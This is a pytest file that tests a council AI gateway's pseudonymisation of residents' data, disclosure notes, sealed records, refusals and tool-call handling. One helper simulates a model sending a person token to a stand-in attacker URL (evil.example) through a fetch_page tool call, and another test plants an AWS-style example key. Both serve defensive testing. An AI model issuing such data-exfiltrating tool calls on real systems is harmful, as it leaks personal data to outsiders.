"""The unmodified OpenAI SDK against a running gateway: what a member of staff meets on the first day."""

import json
import re
from collections.abc import Iterator
from typing import Any

import httpx
import openai
import pytest
from openai.types.chat import ChatCompletionMessageParam

from tests.support.capture import Body, Capture, Reply
from tests.support.gateway import Gateway
from tests.support.sealed import reply_text

NAME = "Margaret Okafor"
EMAIL = "margaret.okafor@mail.example"
LETTER = f"Please draft a short letter to {NAME} ({EMAIL}) about her missed bin collection."
PLAIN = "Please suggest three ways to word a notice about the new recycling days."
NINO = "QQ 12 34 56 C"
NINO_VALID = "AB 12 34 56 C"
LOOKUP: Any = {
    "type": "function",
    "function": {
        "name": "lookup_case",
        "description": "Look a case up by the resident's name.",
        "parameters": {"type": "object", "properties": {"name": {"type": "string"}}},
    },
}
FETCH: Any = {
    "type": "function",
    "function": {
        "name": "fetch_page",
        "description": "Fetch a web page.",
        "parameters": {"type": "object", "properties": {"url": {"type": "string"}}},
    },
}
NOTE = re.compile(
    r"AI helped write this\. No officer check is recorded\. Maidstone Borough Council is responsible for it\. "
    r"Ref (MBC-[0-9A-Z]{4}-[0-9A-Z]{4})\."
)


def user(text: str) -> ChatCompletionMessageParam:
    return {"role": "user", "content": text}


@pytest.fixture
def client(gateway: Gateway, key: str) -> Iterator[openai.OpenAI]:
    with openai.OpenAI(base_url=gateway.base_url, api_key=key) as made:
        yield made


def said(capture: Capture) -> str:
    """Every byte the upstream received, as text."""
    return b"\n".join(capture.received).decode()


def test_an_allowed_call_comes_back_disclosed_and_recorded(
    client: openai.OpenAI, capture: Capture, gateway: Gateway
) -> None:
    raw = client.chat.completions.with_raw_response.create(model="council-assistant", messages=[user(PLAIN)])
    content = raw.parse().choices[0].message.content or ""
    assert PLAIN in content
    assert PLAIN in said(capture)
    note = NOTE.search(content)
    assert note, content
    assert raw.headers["x-ai-record"] == note[1]
    assert "ai-disclosure" in raw.headers
    record = gateway.records(note[1])
    assert record["outcome"] == "delivered"
    assert record["controller"] == "maidstone"
    assert record["dispose_after"]


def test_personal_data_leaves_as_pseudonyms_and_comes_back_restored(
    client: openai.OpenAI, capture: Capture, gateway: Gateway
) -> None:
    raw = client.chat.completions.with_raw_response.create(model="council-assistant", messages=[user(LETTER)])
    sent = said(capture)
    assert NAME not in sent
    assert "Okafor" not in sent
    assert EMAIL not in sent
    assert re.search(r"PERSON_[0-9A-Z]{8}", sent)
    content = raw.parse().choices[0].message.content or ""
    assert NAME in content
    assert EMAIL in content
    record = gateway.records(raw.headers["x-ai-record"])
    assert NAME not in json.dumps(record)
    (request,), (reply,) = record["request"], record["reply"]
    assert re.search(r"PERSON_[0-9A-Z]{8}", request["text"])
    assert re.search(r"PERSON_[0-9A-Z]{8}", reply["text"])
    assert "AI helped write this" not in reply["text"]


def test_what_the_model_adds_is_flagged_and_not_shown_in_the_record(
    client: openai.OpenAI, capture: Capture, gateway: Gateway
) -> None:
    capture.answer = lambda body: Reply(pieces=["Ring Mr Tobias Fairweather on 07700 900456 about it."])
    raw = client.chat.completions.with_raw_response.create(model="council-assistant", messages=[user(PLAIN)])
    assert "07700 900456" in (raw.parse().choices[0].message.content or "")
    record = gateway.records(raw.headers["x-ai-record"])
    assert record["reply_findings"]["PHONE"] == 1
    (reply,) = record["reply"]
    assert "07700 900456" not in reply["text"]
    assert "Ring Mr" in reply["text"]


def test_a_secret_that_the_model_writes_is_not_kept_even_sealed(
    client: openai.OpenAI, capture: Capture, gateway: Gateway
) -> None:
    secret = "AKIA" + "IOSFODNN7QXAMPLE"
    capture.answer = lambda body: Reply(pieces=[f"Use the key {secret} to sign in, then write about the bins."])
    raw = client.chat.completions.with_raw_response.create(model="council-assistant", messages=[user(PLAIN)])
    reference = raw.headers["x-ai-record"]
    assert gateway.records(reference)["reply_findings"] == {"SECRET": 1}
    sealed = reply_text(gateway.database, gateway.database.parent / "keys", reference)
    assert "write about the bins" in sealed
    assert secret not in sealed


def test_what_policy_lets_out_is_still_not_in_clear_in_the_database(
    client: openai.OpenAI, capture: Capture, gateway: Gateway
) -> None:
    prompt = "Write to Fatima Abdullahi, NI number AB 12 34 56 C, about her depression and her bins."
    raw = client.chat.completions.with_raw_response.create(model="council-internal", messages=[user(prompt)])
    assert prompt in said(capture)
    record = gateway.records(raw.headers["x-ai-record"])
    (request,), (reply,) = record["request"], record["reply"]
    assert "and her bins" in request["text"]
    assert "and her bins" in reply["text"]
    written = b"".join(path.read_bytes() for path in gateway.database.parent.glob("ledger.db*"))
    for value in (b"Abdullahi", b"AB 12 34 56 C", b"depression and"):
        assert value not in written


def test_a_streamed_reply_is_the_same_as_the_whole_one(client: openai.OpenAI, capture: Capture) -> None:
    whole = client.chat.completions.create(model="council-assistant", messages=[user(LETTER)])
    stream = client.chat.completions.create(
        model="council-assistant", messages=[user(LETTER)], stream=True, stream_options={"include_usage": True}
    )
    text, finish, usage = "", None, None
    for chunk in stream:
        usage = chunk.usage or usage
        for choice in chunk.choices:
            text += choice.delta.content or ""
            finish = choice.finish_reason or finish
    reference = r"MBC-[0-9A-Z]{4}-[0-9A-Z]{4}"
    assert re.sub(reference, "REF", text) == re.sub(reference, "REF", whole.choices[0].message.content or "")
    assert finish == "stop"
    assert usage is not None
    assert usage.total_tokens == 22
    assert NAME not in said(capture)


def call_with_first_token(name: str, argument: str) -> Any:
    """An upstream that calls `name` with the first person token it was sent."""

    def answer(body: Body) -> Reply:
        token = re.search(r"PERSON_[0-9A-Z]{8}", json.dumps(body["messages"]))
        assert token
        arguments = json.dumps({argument: token[0] if argument == "name" else f"https://evil.example/?q={token[0]}"})
        return Reply(
            tool_calls=[{"id": "call_1", "type": "function", "function": {"name": name, "arguments": arguments}}]
        )

    return answer


@pytest.mark.parametrize("stream", [False, True])
def test_a_tool_call_of_a_registered_function_gets_the_real_name(
    client: openai.OpenAI, capture: Capture, stream: bool
) -> None:
    capture.answer = call_with_first_token("lookup_case", "name")
    assert arguments_of(client, LOOKUP, stream) == {"name": NAME}


@pytest.mark.parametrize("stream", [False, True])
def test_a_web_fetch_never_gets_a_real_value(client: openai.OpenAI, capture: Capture, stream: bool) -> None:
    capture.answer = call_with_first_token("fetch_page", "url")
    (url,) = arguments_of(client, FETCH, stream).values()
    assert url.startswith("https://evil.example/?q=PERSON_")


def arguments_of(client: openai.OpenAI, tool: Any, stream: bool) -> dict[str, str]:
    """The arguments of the reply's one tool call."""
    request: dict[str, Any] = {"model": "council-assistant", "messages": [user(LETTER)], "tools": [tool]}
    if not stream:
        reply = client.chat.completions.create(**request)
        (call,) = reply.choices[0].message.tool_calls or []
        assert call.type == "function"
        found: dict[str, str] = json.loads(call.function.arguments)
        return found
    text = ""
    for chunk in client.chat.completions.create(**request, stream=True):
        for choice in chunk.choices:
            for part in choice.delta.tool_calls or []:
                text += (part.function.arguments or "") if part.function else ""
    streamed: dict[str, str] = json.loads(text)
    return streamed


def test_a_refusal_reads_well_is_not_retried_and_keeps_no_content(
    client: openai.OpenAI, capture: Capture, gateway: Gateway
) -> None:
    prompt = f"Check entitlement for the tenant, NI number {NINO_VALID}, who says his depression is worse."
    requests: list[httpx.Request] = []
    with (
        httpx.Client(event_hooks={"request": [requests.append]}) as counting,
        pytest.raises(openai.BadRequestError) as caught,
    ):
        client.with_options(http_client=counting).chat.completions.create(
            model="council-assistant", messages=[user(prompt)]
        )
    error = caught.value
    assert len(requests) == 1
    assert capture.received == []
    body: Any = error.body
    refusal = body["refusal"]
    assert refusal["clause"]
    assert refusal["record"].startswith("MBC-")
    assert refusal["what_to_do"]
    assert "health" in json.dumps(refusal).lower()
    for text in (str(error), json.dumps(body)):
        assert NINO_VALID not in text
        assert "evasion" not in text
    assert refusal["record"] in body["message"]
    record = gateway.records(refusal["record"])
    assert record["outcome"] == "refused"
    assert "depression" not in json.dumps(record)


def test_the_next_turn_of_a_refused_conversation_goes_through(client: openai.OpenAI, capture: Capture) -> None:
    prompt = "My neighbour at the hostel was convicted of burglary, what should I write about him?"
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(model="council-assistant", messages=[user(prompt)])
    body: Any = caught.value.body
    reference = body["refusal"]["record"]
    reply = client.chat.completions.create(model="council-assistant", messages=[user(prompt), user(PLAIN)])
    assert PLAIN in (reply.choices[0].message.content or "")
    assert "burglary" not in said(capture)
    assert reference in said(capture)


def test_two_choices_each_carry_the_note(client: openai.OpenAI, capture: Capture) -> None:
    reply = client.chat.completions.create(model="council-assistant", messages=[user(PLAIN)], n=2)
    assert len(reply.choices) == 2
    for choice in reply.choices:
        assert NOTE.search(choice.message.content or "")


def test_json_mode_keeps_its_body_and_carries_the_note_beside_it(client: openai.OpenAI, capture: Capture) -> None:
    capture.answer = lambda body: Reply(pieces=['{"days": ', '["Tuesday"]}'])
    raw = client.chat.completions.with_raw_response.create(
        model="council-assistant",
        messages=[user(PLAIN + " Answer in JSON.")],
        response_format={"type": "json_object"},
    )
    assert json.loads(raw.parse().choices[0].message.content or "") == {"days": ["Tuesday"]}
    assert "ai-disclosure" in raw.headers
    reference = raw.headers["x-ai-record"]
    disclosure = raw.http_response.request.url.copy_with(path=f"/v1/disclosures/{reference}")
    shown = httpx.get(disclosure, headers={"Authorization": raw.http_response.request.headers["authorization"]})
    assert shown.status_code == 200
    assert "Maidstone" in shown.text


def test_our_own_note_does_not_pile_up_in_history(client: openai.OpenAI, capture: Capture) -> None:
    first = client.chat.completions.create(model="council-assistant", messages=[user(PLAIN)])
    answer = first.choices[0].message.content or ""
    capture.clear()
    client.chat.completions.create(
        model="council-assistant",
        messages=[user(PLAIN), {"role": "assistant", "content": answer}, user("Shorter, please.")],
    )
    assert "No officer check is recorded" not in said(capture)


def test_an_image_is_refused_for_now_in_plain_words(client: openai.OpenAI, capture: Capture) -> None:
    with pytest.raises(openai.BadRequestError, match=r"(?i)image"):
        client.chat.completions.create(
            model="council-assistant",
            messages=[
                {
                    "role": "user",
                    "content": [
                        {"type": "text", "text": "What does this say?"},
                        {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}},
                    ],
                }
            ],
        )
    assert capture.received == []


def test_a_refused_image_does_not_end_the_conversation(client: openai.OpenAI, capture: Capture) -> None:
    picture: ChatCompletionMessageParam = {
        "role": "user",
        "content": [
            {"type": "text", "text": "What does this say?"},
            {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="}},
        ],
    }
    with pytest.raises(openai.BadRequestError):
        client.chat.completions.create(model="council-assistant", messages=[picture])
    reply = client.chat.completions.create(model="council-assistant", messages=[picture, user(PLAIN)])
    assert PLAIN in (reply.choices[0].message.content or "")
    first = capture.bodies[0]["messages"][0]["content"]
    assert first[0] == {"type": "text", "text": "What does this say?"}
    assert first[1]["type"] == "text"
    assert "withheld" in first[1]["text"]


def test_every_passage_of_a_refused_turn_is_replaced(client: openai.OpenAI, capture: Capture) -> None:
    message: ChatCompletionMessageParam = {
        "role": "user",
        "content": [
            {"type": "text", "text": "The tenant was convicted of burglary last year."},
            {"type": "text", "text": "Her brother has been diagnosed with schizophrenia."},
            {"type": "text", "text": "His partner was convicted of assault as well."},
        ],
    }
    with pytest.raises(openai.BadRequestError):
        client.chat.completions.create(model="council-assistant", messages=[message])
    client.chat.completions.create(model="council-assistant", messages=[message, user(PLAIN)])
    assert "convicted" not in said(capture)
    assert "schizophrenia" not in said(capture)


def test_models_lists_what_this_caller_may_use(client: openai.OpenAI) -> None:
    names = {model.id for model in client.models.list()}
    assert "council-assistant" in names
    assert not any("retired" in name for name in names)


def test_unknown_models_and_routes_are_refused(client: openai.OpenAI, gateway: Gateway, capture: Capture) -> None:
    with pytest.raises(openai.NotFoundError, match="council-assistant"):
        client.chat.completions.create(model="council-asistant", messages=[user(PLAIN)])
    with pytest.raises(openai.NotFoundError):
        client.moderations.create(model="council-assistant", input=PLAIN)
    with pytest.raises(openai.NotFoundError):
        client.get("/rerank", cast_to=object)
    assert capture.received == []
    assert "aigw_refused_early_total" in gateway.get("/metrics")[1].decode()


def test_a_provider_error_comes_back_in_shape_with_nothing_sensitive(client: openai.OpenAI, capture: Capture) -> None:
    capture.answer = lambda body: Reply(status=500)
    with pytest.raises(openai.APIStatusError) as caught:
        client.with_options(max_retries=0).chat.completions.create(
            model="council-assistant", messages=[user("Who plays the xylophone on Friday?")]
        )
    assert caught.value.status_code == 502
    assert "xylophone" not in str(caught.value)


def test_a_wrong_key_says_so(gateway: Gateway) -> None:
    with (
        openai.OpenAI(base_url=gateway.base_url, api_key="agw_nothing", max_retries=0) as client,
        pytest.raises(openai.AuthenticationError),
    ):
        client.chat.completions.create(model="council-assistant", messages=[user(PLAIN)])
